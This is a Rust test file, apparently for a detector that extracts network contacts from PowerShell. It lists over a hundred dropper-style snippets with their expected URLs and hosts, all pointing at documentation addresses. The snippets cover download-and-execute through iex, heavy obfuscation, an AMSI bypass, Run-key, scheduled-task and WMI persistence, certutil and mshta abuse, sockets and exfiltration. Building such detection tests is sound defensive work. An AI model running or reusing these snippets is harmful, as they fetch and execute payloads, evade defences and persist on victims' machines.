//! Scripts of PowerShell in further manners of droppers, each with what it contacts: URLs, or hosts
//! with their ports.

use super::super::run;
use crate::told::contacts;

/// Script and contacts.
const FORMS: &[(&str, &[&str])] = &[
    (
        "$b='http://192.0'+'.2.10/'\n$w=New-Object System.Net.WebClient\n$w.DownloadString($b+'1')|iex\n$w.DownloadData($b+'2')\n$w.DownloadFile($b+'3',\"$env:TEMP\\3.exe\")\n$w.OpenRead($b+'4')\n$w.UploadString($b+'5','x')\n$w.DownloadFileAsync((New-Object Uri($b+'6')),'a')\n$w.DownloadStringTaskAsync($b+'7').Result\n",
        &[
            "http://192.0.2.10/1",
            "http://192.0.2.10/2",
            "http://192.0.2.10/3",
            "http://192.0.2.10/4",
            "http://192.0.2.10/5",
            "http://192.0.2.10/6",
            "http://192.0.2.10/7",
        ],
    ),
    (
        "Add-Type -AssemblyName System.Net.Http\n$c=[System.Net.Http.HttpClient]::new()\n$c.GetStringAsync('http://192.0'+'.2.11/1').Result|iex\n$c.GetAsync('http://192.0'+'.2.11/2').GetAwaiter().GetResult()\n",
        &["http://192.0.2.11/1", "http://192.0.2.11/2"],
    ),
    (
        "$h=New-Object System.Net.Http.HttpClient\n$h.BaseAddress=[Uri]('http://192.0'+'.2.12')\n$h.PostAsync('/p',(New-Object System.Net.Http.StringContent('x'))).Wait()\n",
        &["http://192.0.2.12/p"],
    ),
    (
        "$r=[Net.WebRequest]::Create('http://192.0'+'.2.13/r');$r.Method='GET';$s=$r.GetResponse().GetResponseStream();$d=(New-Object IO.StreamReader $s).ReadToEnd();iex $d\n",
        &["http://192.0.2.13/r"],
    ),
    (
        "$p=@{Uri='http://192.0'+'.2.14/r';Method='Post';Body='x'};Invoke-RestMethod @p\n",
        &["http://192.0.2.14/r"],
    ),
    (
        "$b='http://192.0'+'.2.15';curl $b/1 -UseBasicParsing|iex;wget \"$b/2\" -O a.exe;iwr -Uri (\"{0}/{1}\" -f $b,3)\n",
        &["http://192.0.2.15/1", "http://192.0.2.15/2", "http://192.0.2.15/3"],
    ),
    (
        "Import-Module BitsTransfer;sbt=0;Start-BitsTransfer ('http://192.0'+'.2.16/1') $env:TEMP\\a.exe\n",
        &["http://192.0.2.16/1"],
    ),
    (
        "$b='http://192.0'+'.2.17/';Start-Process mshta.exe ($b+'1');saps msiexec -ArgumentList '/q','/i',($b+'2') -WindowStyle Hidden\n",
        &["http://192.0.2.17/1", "http://192.0.2.17/2"],
    ),
    (
        "$h=New-Object -ComObject MSXML2.ServerXMLHTTP;$h.open('GET','http://192.0'+'.2.18/1',$false);$h.send();iex $h.responseText\n",
        &["http://192.0.2.18/1"],
    ),
    (
        "$h=New-Object -com WinHttp.WinHttpRequest.5.1;$h.open('GET','http://192.0'+'.2.19/1',$false);$h.send();iex $h.responseText\n",
        &["http://192.0.2.19/1"],
    ),
    (
        "$ie=New-Object -ComObject InternetExplorer.Application;$ie.visible=$false;$ie.navigate('http://192.0'+'.2.20/1');while($ie.busy){sleep 1};iex $ie.Document.body.innerText\n",
        &["http://192.0.2.20/1"],
    ),
    (
        "$b='http://192.0'+'.2.21/';(New-Object -ComObject WScript.Shell).Run(\"mshta $b\"+'1',0);(New-Object -ComObject Shell.Application).ShellExecute('mshta',$b+'2')\n",
        &["http://192.0.2.21/1", "http://192.0.2.21/2"],
    ),
    (
        "$t=[Type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39');$o=[Activator]::CreateInstance($t);$o.item().Document.Application.ShellExecute('mshta','http://192.0'+'.2.22/1','c:\\',$null,0)\n",
        &["http://192.0.2.22/1"],
    ),
    (
        "$o=[Activator]::CreateInstance([Type]::GetTypeFromProgID('MSXML2.XMLHTTP'));$o.open('GET','http://192.0'+'.2.23/1',0);$o.send()\n",
        &["http://192.0.2.23/1"],
    ),
    (
        "$x=New-Object -ComObject Excel.Application;$x.Workbooks.Open('http://192.0'+'.2.24/1.xls')\n",
        &["http://192.0.2.24/1.xls"],
    ),
    (
        "$c=[System.Net.Sockets.TcpClient]::new('192.0'+'.2.25',4444);$s=$c.GetStream()\n",
        &["192.0.2.25:4444"],
    ),
    (
        "$c=New-Object Net.Sockets.TcpClient;$c.Connect('192.0'+'.2.26',443);$s=New-Object Net.Security.SslStream($c.GetStream(),$false,({$true} -as [Net.Security.RemoteCertificateValidationCallback]));$s.AuthenticateAsClient('x.example.com')\n",
        &["192.0.2.26:443"],
    ),
    (
        "$s=New-Object System.Net.Sockets.Socket([Net.Sockets.AddressFamily]::InterNetwork,[Net.Sockets.SocketType]::Stream,[Net.Sockets.ProtocolType]::Tcp);$s.Connect((New-Object Net.IPEndPoint([Net.IPAddress]::Parse('192.0'+'.2.27'),8080)))\n",
        &["192.0.2.27:8080"],
    ),
    (
        "$u=New-Object Net.Sockets.UdpClient;$u.Connect('192.0'+'.2.28',53);$u.Send([byte[]](1),1)\n",
        &["192.0.2.28:53"],
    ),
    (
        "$u=[Net.Sockets.UdpClient]::new();$e=[Net.IPEndPoint]::new([Net.IPAddress]::Parse('192.0'+'.2.29'),5000);$u.Send([byte[]](1,2),2,$e)\n",
        &["192.0.2.29:5000"],
    ),
    (
        "$w=New-Object System.Net.WebSockets.ClientWebSocket;$w.ConnectAsync([Uri]('wss://x.example'+'.com/ws'),[Threading.CancellationToken]::None).Wait()\n",
        &["wss://x.example.com/ws"],
    ),
    (
        "$t=(Resolve-DnsName -Name ('t.example'+'.com') -Type TXT).Strings;iex ($t -join '')\n",
        &["t.example.com"],
    ),
    ("[System.Net.Dns]::GetHostAddresses('u.example'+'.com')\n", &["u.example.com"]),
    ("Test-NetConnection -ComputerName ('192.0'+'.2.30') -Port 445\n", &["192.0.2.30:445"]),
    (
        "Send-MailMessage -From a@example.com -To b@example.com -Subject x -SmtpServer ('mail.example'+'.com')\n",
        &["mail.example.com:25"],
    ),
    (
        "$f=[System.Net.FtpWebRequest]::Create('ftp://192.0'+'.2.31/u.zip');$f.Method='STOR';$f.GetRequestStream()\n",
        &["ftp://192.0.2.31/u.zip"],
    ),
    (
        "function Get-It { param([Parameter(Mandatory)][string]$Url,[int]$Tries=3) for($i=0;$i -lt $Tries;$i++){ try { return (iwr $Url -UseBasicParsing).Content } catch { Start-Sleep 1 } } }\niex (Get-It -Url ('http://192.0'+'.2.32/x'))\n",
        &["http://192.0.2.32/x"],
    ),
    (
        "&(\"{1}{0}\"-f'EX','I') (&(\"{0}{2}{1}\"-f'New','bject','-O') (\"{2}{0}{1}\"-f'et.','WebClient','N')).(\"{1}{0}{2}\"-f'wnload','Do','String').Invoke((\"{0}{2}{1}\"-f'http://192','.2.33/x','.0'))\n",
        &["http://192.0.2.33/x"],
    ),
    (
        "I`E`X (N`eW-O`Bj`eCt nEt.wEbC`LiEnT).\"d`oWnLoadS`TrInG\"('http://192.0'+'.2.34/x')\n",
        &["http://192.0.2.34/x"],
    ),
    (
        "iex (('(neXXw-objecXXt net.webXXclient).downloXXadstring(QQhttp://192.0XX.2.35/xQQ)').Replace('XX','') -replace 'QQ',[string][char]39)\n",
        &["http://192.0.2.35/x"],
    ),
    (
        "& ( $env:ComSpec[4,15,25]-join'') (\"iwr \"+'http://192.0'+'.2.36/x')\n",
        &["http://192.0.2.36/x"],
    ),
    (
        ".( $PSHome[4]+$PSHome[30]+'x') (\"iwr \"+'http://192.0'+'.2.37/x')\n",
        &["http://192.0.2.37/x"],
    ),
    (
        ".( $VerbosePreference.ToString()[1,3]+'x'-Join'') (\"iwr \"+'http://192.0'+'.2.38/x')\n",
        &["http://192.0.2.38/x"],
    ),
    (
        "&( $ShellId[1]+$ShellId[13]+'x') (\"iwr \"+'http://192.0'+'.2.39/x')\n",
        &["http://192.0.2.39/x"],
    ),
    (
        ".((Get-Variable '*mdr*').Name[3,11,2]-Join'') (\"iwr \"+'http://192.0'+'.2.40/x')\n",
        &["http://192.0.2.40/x"],
    ),
    (
        "SET-ItEm VArIablE:pq ([Type]'NeT.WebClient');$o=(gi Variable:pq).Value::new();$o.DownloadString('http://192.0'+'.2.41/x')\n",
        &["http://192.0.2.41/x"],
    ),
    (
        "&(gcm n*-O*) Net.WebClient|%{$_.DownloadString('http://192.0'+'.2.42/x')}\n",
        &["http://192.0.2.42/x"],
    ),
    ("&(Get-Command i*e-e*n) (\"iwr \"+'http://192.0'+'.2.43/x')\n", &["http://192.0.2.43/x"]),
    (
        "$ExecutionContext.InvokeCommand.InvokeScript((\"iwr \"+'http://192.0'+'.2.44/x'))\n",
        &["http://192.0.2.44/x"],
    ),
    (
        "&$ExecutionContext.InvokeCommand.GetCommand($ExecutionContext.InvokeCommand.GetCommandName('*w-*ct',1,1),'Cmdlet') Net.WebClient | % { $_.DownloadString('http://192.0'+'.2.45/x') }\n",
        &["http://192.0.2.45/x"],
    ),
    (
        "[ScriptBlock]::Create(\"iwr \"+'http://192.0'+'.2.46/x').Invoke()\n",
        &["http://192.0.2.46/x"],
    ),
    (
        "icm -ScriptBlock ([scriptblock]::Create(\"iwr \"+'http://192.0'+'.2.47/x'))\n",
        &["http://192.0.2.47/x"],
    ),
    (
        "$p=[PowerShell]::Create();[void]$p.AddScript(\"iwr \"+'http://192.0'+'.2.48/x');$p.Invoke()\n",
        &["http://192.0.2.48/x"],
    ),
    (
        "Start-Job -ScriptBlock { param($u) (New-Object Net.WebClient).DownloadString($u) } -ArgumentList ('http://192.0'+'.2.50/x') | Wait-Job | Receive-Job\n",
        &["http://192.0.2.50/x"],
    ),
    (
        "$s=ConvertTo-SecureString (\"iwr \"+'http://192.0'+'.2.53/x') -AsPlainText -Force;iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))\n",
        &["http://192.0.2.53/x"],
    ),
    (
        "$k=[Text.Encoding]::UTF8.GetBytes('key');$b=[Text.Encoding]::UTF8.GetBytes(\"iwr \"+'http://192.0'+'.2.55/x');$e=for($i=0;$i -lt $b.Length;$i++){$b[$i] -bxor $k[$i % $k.Length]}\n$d=for($i=0;$i -lt $e.Length;$i++){[char]($e[$i] -bxor $k[$i % $k.Length])};iex (-join $d)\n",
        &["http://192.0.2.55/x"],
    ),
    (
        "Add-Type -TypeDefinition @\"\nusing System; using System.Net;\npublic class L { public static void Go(string u) { new WebClient().DownloadFile(u, \"a.exe\"); } }\n\"@\n[L]::Go('http://192.0'+'.2.56/x')\n",
        &["http://192.0.2.56/x"],
    ),
    (
        "$m=Add-Type -MemberDefinition '[DllImport(\"urlmon.dll\")] public static extern int URLDownloadToFile(IntPtr a,string b,string c,int d,IntPtr e);' -Name U -Namespace W -PassThru\n$m::URLDownloadToFile([IntPtr]::Zero,'http://192.0'+'.2.57/x',\"$env:TEMP\\a.exe\",0,[IntPtr]::Zero)\n",
        &["http://192.0.2.57/x"],
    ),
    (
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList (\"mshta \"+'http://192.0'+'.2.58/x')\n",
        &["http://192.0.2.58/x"],
    ),
    (
        "([wmiclass]'Win32_Process').Create(\"mshta \"+'http://192.0'+'.2.59/x')\n",
        &["http://192.0.2.59/x"],
    ),
    (
        "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine=(\"mshta \"+'http://192.0'+'.2.60/x')}\n",
        &["http://192.0.2.60/x"],
    ),
    (
        "$b='http://192.0'+'.2.61/'\n$a=New-ScheduledTaskAction -Execute 'mshta.exe' -Argument ($b+'1');Register-ScheduledTask -TaskName x -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)\nNew-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value (\"powershell -c iex(irm \"+$b+\"2)\") -PropertyType String\n",
        &["http://192.0.2.61/1", "http://192.0.2.61/2"],
    ),
    (
        "$e=[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes(\"iwr \"+'http://192.0'+'.2.62/1'))\nSet-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value \"powershell -w hidden -enc $e\"\n",
        &["http://192.0.2.62/1"],
    ),
    (
        "$f=Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='x';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query='SELECT * FROM x'}\n$c=Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments @{Name='x';CommandLineTemplate=(\"mshta \"+'http://192.0'+'.2.63/1')}\n",
        &["http://192.0.2.63/1"],
    ),
    (
        "$e=[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes(\"iwr \"+'http://192.0'+'.2.64/1'));Start-Process powershell -ArgumentList \"-nop -w hidden -enc $e\" -WindowStyle Hidden\n",
        &["http://192.0.2.64/1"],
    ),
    ("[Diagnostics.Process]::Start('mshta','http://192.0'+'.2.65/1')\n", &["http://192.0.2.65/1"]),
    (
        "$p=New-Object Diagnostics.ProcessStartInfo;$p.FileName='cmd';$p.Arguments='/c curl http://192.0'+'.2.66/1';[Diagnostics.Process]::Start($p)\n",
        &["http://192.0.2.66/1"],
    ),
    (
        "$u='http://192.0'+'.2.67/1';cmd /c \"certutil -urlcache -f $u a.exe\"; & a.exe\n",
        &["http://192.0.2.67/1"],
    ),
    (
        "$u='http://192.0'+'.2.68/1';& certutil.exe -urlcache -split -f $u \"$env:TEMP\\a.exe\" | Out-Null\n",
        &["http://192.0.2.68/1"],
    ),
    (
        "$s=@'\n$u = 'http://192.0' + '.2.69/1'\niwr $u -OutFile a.exe\n'@\nSet-Content $env:TEMP\\a.ps1 $s\npowershell -ep bypass -File $env:TEMP\\a.ps1\n",
        &["http://192.0.2.69/1"],
    ),
    (
        "$h=@{a='192.0.2.70';b='http'};switch('a'){'a'{$u=\"$($h.b)://$($h[$_])/1\"}default{$u='x'}};irm $u\n",
        &["http://192.0.2.70/1"],
    ),
    (
        "$s='71/1','71/2';foreach($i in $s){try{$r=iwr \"http://192.0.2.$i\" -UseBasicParsing;if($r.StatusCode -eq 200){iex $r.Content;break}}catch{continue}}\n",
        &["http://192.0.2.71/1", "http://192.0.2.71/2"],
    ),
    (
        "do{try{$d=(New-Object Net.WebClient).DownloadString('http://192.0'+'.2.72/1');$ok=$true}catch{sleep 5}}until($ok)\n",
        &["http://192.0.2.72/1"],
    ),
    (
        "class D { [string]$U; D([string]$u){$this.U=$u} [void]Go(){ (New-Object Net.WebClient).DownloadString($this.U) } }\n[D]::new('http://192.0'+'.2.73/1').Go()\n",
        &["http://192.0.2.73/1"],
    ),
    ("'http://192.0.2.74/1'|%{irm $_}|iex\n", &["http://192.0.2.74/1"]),
    (
        "[string]::Join('',(104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,55,53,47,49|%{[char]$_}))|%{(New-Object Net.WebClient).DownloadData($_)}\n",
        &["http://192.0.2.75/1"],
    ),
    (
        "iwr (-join[char[]](104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,55,54,47,49))\n",
        &["http://192.0.2.76/1"],
    ),
    ("$x='1/77.2.0.291//:ptth';iwr ($x[-1..-$x.Length]-join'')\n", &["http://192.0.2.77/1"]),
    (
        "$x='1/87.2.0.291//:ptth'.ToCharArray();[Array]::Reverse($x);iwr (-join $x)\n",
        &["http://192.0.2.78/1"],
    ),
    (
        "iwr (-join [regex]::Matches('1/97.2.0.291//:ptth','.','RightToLeft'))\n",
        &["http://192.0.2.79/1"],
    ),
    (
        "function S($a){$r='';For($i=2;$i -lt $a.Length;$i+=3){$r+=$a[$i]};$r};iwr (S 'aahbbtcctddpee:ff/gg/hh1ii9jj2kk.ll0mm.nn2oo.pp8qq0rr/ss1')\n",
        &["http://192.0.2.80/1"],
    ),
    (
        "function Ud($F){$K='';for($S=4;$S -lt $F.Length-1;$S+=5){$K+=$F.Substring($S,1)};$K}\nfunction Go($x){ . ($Ie) ($x) }\n$Ie=Ud 'abcdiabcdeabcdxabcd'\n$u=Ud 'aaaahbbbbtcccctddddpeeee:ffff/gggg/hhhh1iiii9jjjj2kkkk.llll0mmmm.nnnn2oooo.pppp8qqqq1rrrr/ssss1tttt'\nGo ('$c=New-Object Net.WebClient;$c.DownloadString($u)')\n",
        &["http://192.0.2.81/1"],
    ),
    (
        "[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)\niex (New-Object Net.WebClient).DownloadString('http://192.0'+'.2.82/1')\n",
        &["http://192.0.2.82/1"],
    ),
    (
        "$w=New-Object Net.WebClient;$m=[Net.WebClient].GetMethod('DownloadString',[Type[]]@([string]));$m.Invoke($w,@('http://192.0'+'.2.83/1'))\n",
        &["http://192.0.2.83/1"],
    ),
    (
        "$w=New-Object Net.WebClient;[Net.WebClient].InvokeMember('DownloadString','InvokeMethod',$null,$w,@('http://192.0'+'.2.84/1'))\n",
        &["http://192.0.2.84/1"],
    ),
    (
        "$w=New-Object Net.WebClient;$n=($w|Get-Member|?{$_.Name -like '*nl*g'}).Name;$w.$n('http://192.0'+'.2.85/1')\n",
        &["http://192.0.2.85/1"],
    ),
    (
        "$w=New-Object Net.WebClient;$w.PsObject.Methods['DownloadString'].Invoke('http://192.0'+'.2.86/1')\n",
        &["http://192.0.2.86/1"],
    ),
    ("$env:zz='http://192.0'+'.2.87/1';iwr (gci env:zz).Value\n", &["http://192.0.2.87/1"]),
    (
        "sal q iex;sal w New-Object;q (w Net.WebClient).DownloadString('http://192.0'+'.2.88/1')\n",
        &["http://192.0.2.88/1"],
    ),
    (
        "Set-Item Alias:zz 'Invoke-WebRequest';zz ('http://192.0'+'.2.89/1')\n",
        &["http://192.0.2.89/1"],
    ),
    (
        "Set-Item function:zz {param($a) iwr $a};zz ('http://192.0'+'.2.90/1')\n",
        &["http://192.0.2.90/1"],
    ),
    (
        "powershell -c \"powershell -c \\\"iwr ('http://192.0'+'.2.91/1')\\\"\"\n",
        &["http://192.0.2.91/1"],
    ),
    (
        "Set-Clipboard (\"iwr \"+'http://192.0'+'.2.92/1');iex (Get-Clipboard)\n",
        &["http://192.0.2.92/1"],
    ),
    ("curl.exe -s -o a (\"http://192.0\"+\".2.93/1\")\n", &["http://192.0.2.93/1"]),
    ("$u=[UriBuilder]::new('https','192.0.2.94',443,'/1');irm $u.Uri\n", &["https://192.0.2.94/1"]),
    (
        "$s=[Text.StringBuilder]::new();'http://','192.0','.2.95','/1'|%{[void]$s.Append($_)};irm $s.ToString()\n",
        &["http://192.0.2.95/1"],
    ),
    (
        "$j='{\"h\":\"192.0.2.96\",\"p\":[\"1\"]}'|ConvertFrom-Json;irm \"http://$($j.h)/$($j.p[0])\"\n",
        &["http://192.0.2.96/1"],
    ),
    (
        "[xml]$x='<a><u>http://192.0.2.97/</u><p id=\"1\"/></a>';irm ($x.a.u+$x.a.p.id)\n",
        &["http://192.0.2.97/1"],
    ),
    (
        "$h='687474703a2f2f3139322e302e322e39382f31';$u=-join(0..($h.Length/2-1)|%{[char][Convert]::ToByte($h.Substring($_*2,2),16)});irm $u\n",
        &["http://192.0.2.98/1"],
    ),
    (
        "$u=('01101000 01110100 01110100 01110000' -split ' '|%{[char][Convert]::ToInt32($_,2)}) -join '';irm ($u+'://192.0.2.99/1')\n",
        &["http://192.0.2.99/1"],
    ),
    (
        "iex (-join ('151,167,162,40,150,164,164,160,72,57,57,61,71,62,56,60,56,62,56,61,60,60,57,61' -split ','|%{[char][Convert]::ToInt32($_,8)}) -replace '1/1','')\nirm ('http://192.0'+'.2.100/1')\n",
        &["http://192.0.2.100/1"],
    ),
    (
        "$t=Get-Content $PSCommandPath -Raw;$u=($t -split '#MARK:')[2].Trim();irm ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($u)))\n#MARK:aHR0cDovLzE5Mi4wLjIuMTAxLzE=\n",
        &["http://192.0.2.101/1"],
    ),
    ("explorer.exe ('http://192.0'+'.2.102/1')\n", &["http://192.0.2.102/1"]),
    (
        "while($true){$r=irm -Uri ('http://192.0'+'.2.103/t') -Headers @{id=$env:COMPUTERNAME};if($r){iex $r};Start-Sleep (Get-Random -Min 5 -Max 10)}\n",
        &["http://192.0.2.103/t"],
    ),
    (
        "'irm http://192.0.2.104/'+'1' | Out-File $env:TEMP\\q.txt; iex ${C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q.txt}\n",
        &["http://192.0.2.104/1"],
    ),
    (
        "Invoke-Command -ComputerName ('192.0'+'.2.105') -ScriptBlock { hostname }\n",
        &["192.0.2.105"],
    ),
    (
        "$r=Invoke-WebRequest -Uri ('https://192.0'+'.2.1/login') -SessionVariable s -Method POST -Body @{u='a'} -UserAgent 'x'\n",
        &["https://192.0.2.1/login"],
    ),
    (
        "$w=[Net.WebClient]::new();$w.BaseAddress='http://192.0'+'.2.2/x/';$w.DownloadString('a')\n",
        &["http://192.0.2.2/x/a"],
    ),
    ("irm -Uri:('http://192.0'+'.2.3/a')|iex\n", &["http://192.0.2.3/a"]),
    ("$f={param($h,$p) irm \"http://$h/$p\"};& $f '192.0.2.4' 'a'\n", &["http://192.0.2.4/a"]),
    (
        ". ([scriptblock]::Create('function z($q){irm $q}'));z 'http://192.0.2.5/a'\n",
        &["http://192.0.2.5/a"],
    ),
    (
        "irm ([char](103+1)+[char]0x74+[char]116+'p'+[char]58+'//192.0.2.6/a')\n",
        &["http://192.0.2.6/a"],
    ),
    ("irm ('{0}tp:{1}{1}{2}' -f 'ht',[char]47,'192.0.2.7/a')\n", &["http://192.0.2.7/a"]),
    ("$x=$env:SystemRoot[0]+'url.exe';& $x ('http://192.0'+'.2.8/a')\n", &["http://192.0.2.8/a"]),
    (
        "$u='http:','','192.0.2.9','a' -join '/';Invoke-WebRequest $u -OutFile (Join-Path $env:TEMP 'a.exe')\n",
        &["http://192.0.2.9/a"],
    ),
    (
        "irm ([regex]::Replace('68747470 3a2f2f','\\s',''  ) -replace '..',{[char][Convert]::ToInt32($_.Value,16)})\nirm ('http://192.0'+'.2.10/a')\n",
        &["http://192.0.2.10/a"],
    ),
    (
        "$s='hxtxtxpx:x/x/x1x9x2x.x0x.x2x.x1x1x/xax';$o='';0..($s.Length-1)|?{$_%2 -eq 0}|%{$o+=$s[$_]};irm $o\n",
        &["http://192.0.2.11/a"],
    ),
    (
        "$h=[ordered]@{a='http://';b='192.0.2.12';c='/a'};irm ($h.Values -join '')\n",
        &["http://192.0.2.12/a"],
    ),
    (
        "$t=@\"\nfoo\nu=http://192.0.2.13/a\n\"@\n$u=($t|Select-String 'u=(\\S+)').Matches[0].Groups[1].Value;irm $u\n",
        &["http://192.0.2.13/a"],
    ),
    (
        "if('zz<http://192.0.2.14/a>zz' -match '<(.+)>'){irm $matches[1]}\n",
        &["http://192.0.2.14/a"],
    ),
    (
        "$c=ConvertFrom-StringData \"h=192.0.2.15`np=a\";irm \"http://$($c.h)/$($c.p)\"\n",
        &["http://192.0.2.15/a"],
    ),
    (
        "$c=\"h,p`n192.0.2.16,a\"|ConvertFrom-Csv;irm (\"http://{0}/{1}\" -f $c.h,$c.p)\n",
        &["http://192.0.2.16/a"],
    ),
    (
        "foreach($l in @'\n192.0.2.17/a\n192.0.2.17/b\n'@ -split \"`r?`n\"){ irm \"http://$l\" }\n",
        &["http://192.0.2.17/a", "http://192.0.2.17/b"],
    ),
    ("try{throw 'http://192.0.2.18/a'}catch{irm $_.Exception.Message}\n", &["http://192.0.2.18/a"]),
    (
        "function R($s){if($s.Length -le 1){$s}else{(R $s.Substring(1))+$s[0]}};irm (R 'a/91.2.0.291//:ptth')\n",
        &["http://192.0.2.19/a"],
    ),
    (
        "$n=208,232,232,224,116,94,94,98,114,100,92,96,92,100,92,100,96,94,194;irm (-join($n|%{[char]($_ -shr 1)}))\n",
        &["http://192.0.2.20/a"],
    ),
    (
        "$b=[byte[]](0x68,0x74,0x74,0x70);irm ([Text.Encoding]::ASCII.GetString($b)+'://192.0.2.21/a')\n",
        &["http://192.0.2.21/a"],
    ),
    (
        "$r=-join('uggc://192.0.2.22/n'.ToCharArray()|%{if($_ -match '[a-m]'){[char]([int]$_+13)}elseif($_ -match '[n-z]'){[char]([int]$_-13)}else{$_}});irm $r\n",
        &["http://192.0.2.22/a"],
    ),
    (
        "$a='abcdefghijklmnopqrstuvwxyz';$r='';foreach($c in 'kwws'.ToCharArray()){$r+=$a[($a.IndexOf($c)-3+26)%26]};irm \"$r`://192.0.2.23/a\"\n",
        &["http://192.0.2.23/a"],
    ),
    (
        "Start-Process -FilePath \"$env:windir\\System32\\curl.exe\" -ArgumentList @('-s','-o',\"$env:TEMP\\a\",('http://192.0'+'.2.24/a')) -Wait -NoNewWindow\n",
        &["http://192.0.2.24/a"],
    ),
    (
        "saps powershell \"-nop -c irm http://192.0.2.25/a | iex\" -Verb RunAs\n",
        &["http://192.0.2.25/a"],
    ),
    (
        "'aXJtIGh0dHA6Ly8xOTIuMC4yLjI2L2E='|%{[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($_))}|iex\n",
        &["http://192.0.2.26/a"],
    ),
    ("iex \"$('irm')$([char]32)http://192.0.2.27/a\"\n", &["http://192.0.2.27/a"]),
    (
        "New-Item HKCU:\\Software\\Q -Force|Out-Null;Set-ItemProperty HKCU:\\Software\\Q -Name c -Value ('irm http://192.0'+'.2.28/a');iex (gp HKCU:\\Software\\Q).c\n",
        &["http://192.0.2.28/a"],
    ),
    (
        "schtasks /create /tn q /sc onlogon /tr (\"mshta \"+'http://192.0'+'.2.29/a') /f\n",
        &["http://192.0.2.29/a"],
    ),
    (
        "$v='mshta http://192.0'+'.2.30/a';reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v q /d $v /f\n",
        &["http://192.0.2.30/a"],
    ),
    ("$u='http://192.0'+'.2.31/a.msi';msiexec.exe /i $u /qn\n", &["http://192.0.2.31/a.msi"]),
    ("rundll32.exe url.dll,OpenURL ('http://192.0'+'.2.32/a')\n", &["http://192.0.2.32/a"]),
    (
        "$w=New-Object Net.WebClient;$w.Credentials=New-Object Net.NetworkCredential('a','b');$w.UploadFile('ftp://192.0'+'.2.33/a','C:\\a')\n",
        &["ftp://192.0.2.33/a"],
    ),
    (
        "$c=New-Object Net.Sockets.TcpClient;$c.ConnectAsync('192.0'+'.2.34',1234).Wait();$s=New-Object IO.StreamWriter($c.GetStream())\n",
        &["192.0.2.34:1234"],
    ),
    (
        "param([string]$U=('http://192.0'+'.2.35/a'))\nInvoke-WebRequest -Uri $U -UseBasicParsing | Out-Null\n",
        &["http://192.0.2.35/a"],
    ),
    (
        "function G{[CmdletBinding()]param([Parameter(ValueFromPipeline)]$x)begin{$o=''}process{$o+=$x}end{irm $o}}\n'http://','192.0.2.36','/a'|G\n",
        &["http://192.0.2.36/a"],
    ),
    (
        "$t='1:A';$b=\"https://api.telegram.example/bot$t\";irm \"$b/sendMessage\" -Method Post -Body @{chat_id=1;text='x'}\n",
        &["https://api.telegram.example/bot1:A/sendMessage"],
    ),
];

#[test]
fn what_scripts_contact() {
    contacts(FORMS, run);
}
